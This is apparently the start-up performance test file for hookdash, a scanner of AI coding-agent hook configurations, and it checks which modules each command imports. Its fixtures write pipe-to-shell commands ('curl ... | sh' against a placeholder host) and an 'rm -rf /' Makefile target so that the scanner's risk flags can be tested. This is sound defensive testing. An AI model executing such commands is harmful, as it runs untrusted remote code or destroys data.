"""hookdash starts in a blink (issue 28): each command imports only what it touches.

Held structurally, never by timing (the figures are tests/bench/bench_startup.py's): a
fresh process runs a command and reports what it imported.
"""

from __future__ import annotations

import ast
import json
import subprocess
import sys

import pytest

from hookdash.cli import parser as cli_parser
from tests.conftest import Sandbox
from tests.core.scan.every_agent import write_every_record

# Every command module of the command line (what `--version` must not import).
COMMAND_MODULES = (
    "hookdash.cli.listing",
    "hookdash.cli.scanning",
    "hookdash.cli.baseline",
    "hookdash.cli.running",
    "hookdash.cli.edits",
    "hookdash.cli.authoring",
    "hookdash.cli.dashboard",
    "hookdash.cli.hosts",
    "hookdash.cli.any_host",
)


def _imported(sandbox: Sandbox, argv: list[str], *watched: str) -> list[str]:
    """Which of the `watched` modules a fresh process imports running `hookdash argv`."""
    return _run(sandbox, argv, *watched)[0]


def _run(sandbox: Sandbox, argv: list[str], *watched: str) -> tuple[list[str], str]:
    """`_imported`'s answer, and what the command printed."""
    code = (
        "import sys\n"
        "from hookdash import cli\n"
        "try:\n"
        f"    cli.main({argv!r})\n"
        "except SystemExit:\n"
        "    pass\n"
        f"print('LOADED', sorted(m for m in {watched!r} if m in sys.modules), file=sys.stderr)\n"
    )
    result = sandbox.python(code)
    line = next((x for x in result.stderr.splitlines() if x.startswith("LOADED ")), None)
    assert line is not None, result.stdout[-500:] + result.stderr[-800:]
    loaded: list[str] = ast.literal_eval(line.removeprefix("LOADED "))
    return loaded, result.stdout


def test_version_imports_no_command_nor_pydantic(sandbox: Sandbox) -> None:
    assert _imported(sandbox, ["--version"], *COMMAND_MODULES, "pydantic", "textual") == []


def test_a_command_imports_its_own_module_only(sandbox: Sandbox) -> None:
    others = [m for m in COMMAND_MODULES if m not in ("hookdash.cli.scanning",)]
    assert _imported(sandbox, ["scan", "--help"], *others) == []


def test_scan_imports_no_textual(sandbox: Sandbox) -> None:
    assert _imported(sandbox, ["scan", str(sandbox.workspace)], "textual") == []


@pytest.mark.parametrize("group", range(len(cli_parser._GROUPS)))
def test_each_group_declares_the_commands_it_is_listed_for(group: int) -> None:
    """`_GROUPS` names the commands each declaring function adds: a command added to a
    group but not to the table would be unreachable (and one listed but not declared, an
    error when chosen)."""
    names, _, _ = cli_parser._GROUPS[group]
    sub = next(
        a for a in cli_parser.build_parser()._actions if isinstance(a, cli_parser.LazyCommands)
    )
    sub._load(names[0])
    assert sorted(dict.keys(sub.choices)) == sorted(names)


def test_help_lists_every_command_in_the_declared_order() -> None:
    text = cli_parser.build_parser().format_help()
    listed = [name for names, _, _ in cli_parser._GROUPS for name in names]
    assert [
        line.split()[0]
        for line in text.splitlines()
        if line[4:5].isalpha() and line.startswith("    ")
    ] == listed


def test_scan_imports_not_the_gemini_configuration_model(sandbox: Sandbox) -> None:
    """`scan` reads files of every agent but builds no Gemini CLI configuration: the
    risk flags and MCP servers it reports live apart from core.model."""
    gemini = (
        "hookdash.core.model",
        "hookdash.core.hosts.gemini.extensions",
        "hookdash.core.hosts.gemini.layers",
        "hookdash.core.hosts.gemini.versions",
    )
    assert _imported(sandbox, ["scan", str(sandbox.workspace)], *gemini) == []


@pytest.mark.parametrize("fmt", ["json", "text", "sarif", "github"])
def test_scan_imports_no_pydantic(sandbox: Sandbox, fmt: str) -> None:
    """`scan` builds its report from what it reads and validates none of it: it starts
    without pydantic (a tenth of a second), whatever it finds and in every format."""
    write_every_record(sandbox.workspace)
    argv = ["scan", str(sandbox.workspace), "--format", fmt]
    loaded, out = _run(sandbox, argv, "pydantic", "pydantic_core")
    assert loaded == []
    if fmt != "json":
        assert out.strip()
        return
    hooks = json.loads(out)["hooks"]
    assert {h["kind"] for h in hooks} >= {"hook", "setting", "mcp-server", "plugin"}
    assert any(h["risks"] for h in hooks) and any(h["unknowns"] for h in hooks)
    assert any(h["scripts"] for h in hooks) and any(h["also_run_by"] for h in hooks)
    assert ".claude/settings.local.json" in out
    assert {".claude/skills/deploy/SKILL.md", ".claude/agents/a.md"} <= {h["file"] for h in hooks}


@pytest.mark.parametrize("fmt", ["json", "text", "sarif", "github"])
def test_scan_imports_no_hashing_nor_file_utilities(sandbox: Sandbox, fmt: str) -> None:
    """`scan` hashes nothing (OpenSSL's library is hashlib's import), prints no help
    (argparse sizes a help formatter with shutil, which imports the compression modules)
    and reads no package data through importlib.resources (tempfile, random): tree-sitter-
    bash's grammar is loaded from its extension module, not through the package."""
    write_every_record(sandbox.workspace)
    argv = ["scan", str(sandbox.workspace), "--format", fmt]
    heavy = ("hashlib", "_hashlib", "shutil", "importlib.resources", "tempfile", "bz2")
    loaded, out = _run(sandbox, argv, *heavy, "tree_sitter_bash", "tree_sitter")
    assert loaded == ["tree_sitter"]  # the grammar was used: a hook pipes curl into sh
    assert "pipe-to-shell" in out or fmt == "github"


def test_scan_runs_no_code_inspection_module(sandbox: Sandbox) -> None:
    """dataclasses imports inspect (with ast, dis and tokenize: a ninth of a scan's start)
    for what no record of a scan needs; a scan of every agent's files, which reads no
    Python script, runs none of them (core.deferred_module); nor copy (with weakref), which
    dataclasses uses only to deep-copy in asdict."""
    write_every_record(sandbox.workspace)
    argv = ["scan", str(sandbox.workspace), "--format", "json"]
    # ast, inspect are in sys.modules, deferred: their code (_ast, dis, …) is what runs
    loaded, out = _run(sandbox, argv, "_ast", "dis", "tokenize", "linecache", "weakref")
    assert loaded == []
    assert "pipe-to-shell" in out


def test_a_scan_of_shell_hooks_imports_no_code_nor_task_reader(sandbox: Sandbox) -> None:
    """Hooks that run shell only (the seven-agent repository of the start-up benchmark):
    the readers of code in other languages, of npm scripts and make targets, of what find
    and xargs reach are never imported, nor threading (its Lock and local are _thread's),
    nor shlex (no command line is joined or split)."""
    claude = {"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [
        {"type": "command", "command": "./guard.sh"}]}]}}  # fmt: skip
    (sandbox.workspace / ".claude").mkdir()
    (sandbox.workspace / ".claude/settings.json").write_text(json.dumps(claude))
    guard = sandbox.workspace / "guard.sh"
    guard.write_text("#!/bin/sh\njq -r .tool_input.command | grep -q 'rm -rf' && exit 2\n")
    guard.chmod(0o755)
    unused = (
        "hookdash.core.load.code_risks",
        "hookdash.core.load.project_tasks",
        "hookdash.core.load.reached_files",
        "threading",
        "shlex",
    )
    argv = ["scan", str(sandbox.workspace), "--format", "json"]
    loaded, out = _run(sandbox, argv, *unused)
    assert loaded == []
    (hook,) = json.loads(out)["hooks"]
    assert hook["scripts"] == ["guard.sh"], hook


def test_npm_and_make_tasks_are_still_followed(sandbox: Sandbox) -> None:
    """A hook running `npm run` and `make`: the task readers are imported then, and the
    tasks' code is read (its risk flagged at its line in package.json / the Makefile)."""
    ws = sandbox.workspace
    (ws / "package.json").write_text(
        json.dumps({"scripts": {"lint": "curl -s https://x.example/i | sh"}})
    )
    (ws / "Makefile").write_text("check:\n\trm -rf /\n")
    claude = {"hooks": {"Stop": [{"hooks": [
        {"type": "command", "command": "npm run lint && make check"}]}]}}  # fmt: skip
    (ws / ".claude").mkdir()
    (ws / ".claude/settings.json").write_text(json.dumps(claude))
    argv = ["scan", str(ws), "--format", "json"]
    loaded, out = _run(sandbox, argv, "hookdash.core.load.project_tasks")
    assert loaded == ["hookdash.core.load.project_tasks"]
    (hook,) = json.loads(out)["hooks"]
    assert {(r["kind"], r["file"]) for r in hook["risks"]} >= {
        ("pipe-to-shell", "package.json"),
        ("destructive", "Makefile"),
    }, hook["risks"]


def test_a_python_script_is_still_read_as_code(sandbox: Sandbox) -> None:
    """A hook's Python script: ast is imported when it is parsed, and it is read as code
    (the text "rm -rf" it holds as data is no flag; the shell command it starts is)."""
    script = sandbox.workspace / "guard.py"
    script.write_text(
        "import subprocess, sys\n"
        "if 'rm -rf' in sys.stdin.read():\n"
        "    sys.exit(2)\n"
        "subprocess.run(['sh', '-c', 'curl -s https://x.example/i | sh'])\n"
    )
    script.chmod(0o755)
    settings = {"hooks": {"PreToolUse": [{"hooks": [{"type": "command",
                "command": "python3 ./guard.py"}]}]}}  # fmt: skip
    (sandbox.workspace / ".claude").mkdir()
    (sandbox.workspace / ".claude/settings.json").write_text(json.dumps(settings))
    argv = ["scan", str(sandbox.workspace), "--format", "json"]
    loaded, out = _run(sandbox, argv, "_ast")
    assert loaded == ["_ast"]
    (hook,) = json.loads(out)["hooks"]
    kinds = {r["kind"] for r in hook["risks"]}
    assert "pipe-to-shell" in kinds and "destructive" not in kinds, hook["risks"]


_DATACLASSES = (
    "import dataclasses, sys\n"
    "from hookdash import cli\n"
    "cli.main({argv!r})\n"
    "own = {{'__eq__', '__repr__', '__setattr__', '__delattr__'}}\n"
    "found = sorted(\n"
    "    (f'{{c.__module__}}.{{c.__qualname__}}', sorted(set(vars(c)) & own))\n"
    "    for name, m in list(sys.modules.items()) if name.startswith('hookdash')\n"
    "    for c in vars(m).values()\n"
    "    if isinstance(c, type) and c.__module__ == name and dataclasses.is_dataclass(c)\n"
    ")\n"
    "print(found, file=sys.stderr)\n"
)


def test_scan_defines_only_the_dataclasses_it_must(sandbox: Sandbox) -> None:
    """Defining a dataclass compiles its methods at import (half a millisecond for a
    frozen one): the records scan uses inside hookdash are plain classes. Those left are
    its report (a schema pydantic reads), the entries readers change with
    dataclasses.replace, and the findings pydantic models hold; none compiles its own
    __eq__ or __repr__ (record_class.ByValue gives them to those compared by value), nor
    the __setattr__ and __delattr__ of a frozen one (a value_record inherits ByValue's)."""
    write_every_record(sandbox.workspace)
    code = _DATACLASSES.format(argv=["scan", str(sandbox.workspace), "--format", "json"])
    result = sandbox.python(code)
    found = ast.literal_eval(result.stderr.strip().splitlines()[-1])
    assert sorted(name for name, _ in found) == [
        "hookdash.core.findings.RiskFlag",
        "hookdash.core.findings.RiskSpan",
        "hookdash.core.findings.Unknown",
        "hookdash.core.hosts.claude.files.ParseError",
        "hookdash.core.other_agents.AlsoRunBy",
        "hookdash.core.scan.model.AgentFiles",
        "hookdash.core.scan.model.DiffReport",
        "hookdash.core.scan.model.Finding",
        "hookdash.core.scan.model.ScanReport",
        "hookdash.core.scan.model.ScannedHook",
        "hookdash.core.scan.reader.Entry",
        "hookdash.core.scan.reader.Skipped",
        "hookdash.core.scripts.ScriptInfo",
    ]
    assert all(own == [] for _, own in found), found


def test_list_compiles_no_dataclass_method_its_records_do_not_use(sandbox: Sandbox) -> None:
    """A Gemini `list` builds its load's records (layers, candidates, verdict context, the
    configuration …) as dataclasses that compile only their `__init__`: none is compared,
    hashed or printed, and a frozen one is a `record` (frozen as mypy checks it). Left:
    the disk floor's (which imports nothing of hookdash), the other hosts' own, and the
    environment (a dashboard worker is named by its repr)."""
    _gemini_hooks(sandbox)
    code = _DATACLASSES.format(argv=["list", "--json"])
    result = sandbox.python(code)
    found = ast.literal_eval(result.stderr.strip().splitlines()[-1])
    assert sorted(name for name, own in found if own) == [
        "hookdash.core.disk.atomic.WriteOutcome",
        "hookdash.core.disk.atomic._Before",
        "hookdash.core.disk.confinement.Escape",
        "hookdash.core.hosts.claude.layers.ClaudeLayer",
        "hookdash.core.hosts.codex.files.HookFile",
        "hookdash.core.hosts.codex.files.RawHandler",
        "hookdash.core.hosts.codex.layers.CodexLayer",
        "hookdash.core.hosts.gemini.environment.GeminiEnvironment",
    ]


def test_the_bash_grammar_loads_through_its_package_once_imported() -> None:
    """When something imported tree-sitter-bash's package already (the dashboard's syntax
    highlighting may), the parser takes the grammar from it: same flags either way."""
    code = (
        "import sys\n"
        "first = sys.argv[1] == 'package'\n"
        "if first:\n"
        "    import tree_sitter_bash\n"
        "from hookdash.core.load.risks import command_risks\n"
        "print(sorted(f.kind for f in command_risks('curl -s https://x.example | sh')))\n"
    )
    answers = [
        subprocess.run(
            [sys.executable, "-c", code, how], capture_output=True, text=True, check=True
        ).stdout
        for how in ("package", "binding")
    ]
    assert answers[0] == answers[1] == "['network', 'pipe-to-shell']\n"


def test_the_risk_readers_compile_no_pattern_at_import() -> None:
    """Their patterns compile on first use: a start-up pays only for those it uses."""
    code = (
        "import sys\n"
        "import hookdash.core.load.risks, hookdash.core.load.understood\n"
        "from hookdash.core.lazy_regex import LazyRegex\n"
        "def found(value):\n"
        "    if isinstance(value, LazyRegex):\n"
        "        yield value\n"
        "    elif isinstance(value, (list, tuple)):\n"
        "        for v in value: yield from found(v)\n"
        "    elif isinstance(value, dict):\n"
        "        for v in value.values(): yield from found(v)\n"
        "lazy = [p for name, m in list(sys.modules.items()) if name.startswith('hookdash')\n"
        "        for v in vars(m).values() for p in found(v)]\n"
        "print(len(lazy), sum(p._compiled is not None for p in lazy))\n"
    )
    result = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True
    )
    made, compiled = map(int, result.stdout.split())
    assert made > 50  # the readers' tables are lazy…
    assert compiled == 0  # …and none was compiled by importing them


def test_a_second_list_starts_no_agent(sandbox: Sandbox) -> None:
    """`list` says which release of each agent is installed; the answer of `claude
    --version` is remembered until the program changes, so a second list runs nothing."""
    bin_dir = sandbox.root / "agent-bin"
    bin_dir.mkdir()
    runs = sandbox.root / "claude-runs"
    claude = bin_dir / "claude"

    def install(version: str) -> None:
        claude.write_text(f"#!/bin/sh\necho run >> '{runs}'\necho '{version} (Claude Code)'\n")
        claude.chmod(0o755)

    install("2.1.332")
    env = {**sandbox.environ, "PATH": f"{bin_dir}:/usr/bin:/bin"}
    for _ in range(2):
        shown = sandbox.cli("list", "--host", "claude", env=env).stdout
        assert "Claude Code 2.1.332" in shown and "not found" not in shown, shown
    assert runs.read_text().splitlines() == ["run"]
    install("2.1.400")  # an update: the program file changed
    shown = sandbox.cli("list", "--host", "claude", env=env).stdout
    assert "Claude Code 2.1.400: verdicts as for 2.1.332" in shown, shown
    assert len(runs.read_text().splitlines()) == 2


def test_version_says_what_the_parser_says(capsys: pytest.CaptureFixture[str]) -> None:
    """`--version` alone is answered without building the parser; the answer is the
    parser's own (`hookdash --version` with other arguments still goes through it)."""
    with pytest.raises(SystemExit) as done:
        cli_parser.build_parser().parse_args(["--version"])
    assert done.value.code == 0
    from_parser = capsys.readouterr().out
    assert from_parser.startswith("hookdash ")
    from hookdash.cli.main import main

    assert main(["--version"]) == 0
    assert capsys.readouterr().out == from_parser


def test_version_builds_no_parser(sandbox: Sandbox) -> None:
    assert _imported(sandbox, ["--version"], "argparse", "shutil") == []


def _gemini_hooks(sandbox: Sandbox) -> None:
    """A Gemini folder whose hooks run scripts (one missing, one flagged)."""
    (sandbox.workspace / "guard.sh").write_text("#!/bin/sh\ncurl -s http://x | sh\n")
    hooks = {"hooks": [{"type": "command", "command": "./guard.sh"}]}
    sandbox.write_user({"hooks": {"BeforeTool": [hooks, {"hooks": [
        {"type": "command", "command": "$HOME/hooks/gone.sh --flag 1"}]}]}})  # fmt: skip


def test_list_imports_only_what_a_gemini_listing_reads(sandbox: Sandbox) -> None:
    """`list` of a Gemini folder asks whether Claude Code and Codex have files there too,
    and reads none: it imports neither's models nor a TOML reader, and no diff maker (a
    changed script's review makes one)."""
    _gemini_hooks(sandbox)
    others = ("hookdash.core.hosts.claude.model", "tomllib", "difflib")
    loaded, out = _run(sandbox, ["list", "--json"], *others)
    assert loaded == []
    assert [h["command"] for h in json.loads(out)["hooks"]] == [
        "./guard.sh",
        f"{sandbox.home}/hooks/gone.sh --flag 1",
    ]


def test_list_imports_no_run_log(sandbox: Sandbox) -> None:
    """`list` reads which events ignore a hook's decision (the run vocabulary) but no run
    log: the log's module (its file locking, its pydantic record) is not imported."""
    _gemini_hooks(sandbox)
    loaded, out = _run(sandbox, ["list", "--json"], "hookdash.core.run.runlog", "fcntl")
    assert loaded == []
    assert len(json.loads(out)["hooks"]) == 2


def test_list_builds_no_validator_it_does_not_use(sandbox: Sandbox) -> None:
    """A pydantic model's validator is built on first use where `list` never validates
    one (building the eight of them was a tenth of list's imports)."""
    _gemini_hooks(sandbox)
    unused = {
        "hookdash.core.model": ["HookNames"],
        "hookdash.core.mcp_server": ["McpServer"],
        "hookdash.core.hosts.gemini.layers": ["LayerError"],
        "hookdash.core.hosts.gemini.installed": ["InstalledGemini"],
        "hookdash.core.load.fingerprints": ["ScriptPrint", "ScriptFingerprint"],
        "hookdash.core.load.script_copies": ["ScriptDiff"],
    }
    code = (
        "import sys\n"
        "from hookdash import cli\n"
        "cli.main(['list', '--json'])\n"
        f"unused = {unused!r}\n"
        "built = [c for m, names in unused.items() for c in names\n"
        "         if getattr(sys.modules[m], c).__pydantic_complete__]\n"
        "print('BUILT', built, 'USED', sys.modules['hookdash.core.model'].Hook"
        ".__pydantic_complete__, file=sys.stderr)\n"
    )
    result = sandbox.python(code)
    assert "BUILT [] USED True" in result.stderr, result.stderr[-800:]


def test_a_2000_hook_list_makes_no_collection(sandbox: Sandbox) -> None:
    """The command line's collector thresholds (cli.main.run): one collection over every
    object imported and loaded so far was a seventh of a 2,000-hook `list --json`."""
    hooks = [{"hooks": [{"type": "command", "command": f"./h{i % 40}.sh --flag {i}"}]}
             for i in range(2000)]  # fmt: skip
    sandbox.write_user({"hooks": {"BeforeTool": hooks}})
    code = (
        "import gc, importlib, sys\n"
        "cli_main = importlib.import_module('hookdash.cli.main')\n"
        "before = [s['collections'] for s in gc.get_stats()]\n"
        "sys.argv = ['hookdash', 'list', '--json']\n"
        "try:\n"
        "    cli_main.run()\n"
        "except SystemExit:\n"
        "    after = [s['collections'] for s in gc.get_stats()]\n"
        "    print('COLLECTIONS', [a - b for a, b in zip(after, before)], file=sys.stderr)\n"
    )
    result = sandbox.python(code)
    assert len(json.loads(result.stdout)["hooks"]) == 2000
    assert "COLLECTIONS [0, 0, 0]" in result.stderr, result.stderr[-800:]


def test_a_replayed_list_imports_no_model_nor_loader(sandbox: Sandbox) -> None:
    """A `list` run again while nothing changed prints its kept output (cli.replayed):
    it imports neither pydantic, the loader, the checks nor Textual, and prints what the
    first run printed."""
    import time

    from hookdash.core.replay.observations import SETTLED_NS

    _gemini_hooks(sandbox)
    time.sleep(SETTLED_NS / 1e9 + 0.1)  # a fresh interpreter has the real bar
    watched = ("pydantic", "hookdash.core.load.loader", "hookdash.core.load.checks", "textual")
    code = (
        "import sys\n"
        "from hookdash.cli.main import main\n"
        "main(['list', '--json'], keep=True)\n"
        f"print('LOADED', sorted(m for m in {watched!r} if m in sys.modules), file=sys.stderr)\n"
    )
    first, second = sandbox.python(code), sandbox.python(code)
    assert "LOADED ['hookdash.core.load.checks', 'hookdash.core.load.loader', 'pydantic']" in (
        first.stderr
    )
    assert "LOADED []" in second.stderr, second.stderr[-800:]
    assert second.stdout == first.stdout and json.loads(second.stdout)["hooks"]


def test_list_looks_for_no_pydantic_plugin(sandbox: Sandbox) -> None:
    """hookdash loads no pydantic plugin (hookdash/__init__.py): a plugin would be handed
    every configuration and hook output hookdash validates, and looking for one imported
    importlib.metadata and read every installed package's entry points. Should pydantic
    move its plugin loader, this fails: the replacement would be ignored."""
    _gemini_hooks(sandbox)
    loaded, out = _run(sandbox, ["list", "--json"], "importlib.metadata", "pydantic")
    assert loaded == ["pydantic"]  # the models were built, without looking for plugins
    assert json.loads(out)["hooks"]
    probe = sandbox.python(
        "import hookdash.core.model, pydantic.plugin._schema_validator as v, inspect\n"
        "from pydantic.plugin._loader import get_plugins\n"
        "assert list(get_plugins()) == []\n"
        "assert 'from ._loader import get_plugins' in inspect.getsource(v)\n",
    )
    assert probe.returncode == 0, probe.stderr[-800:]
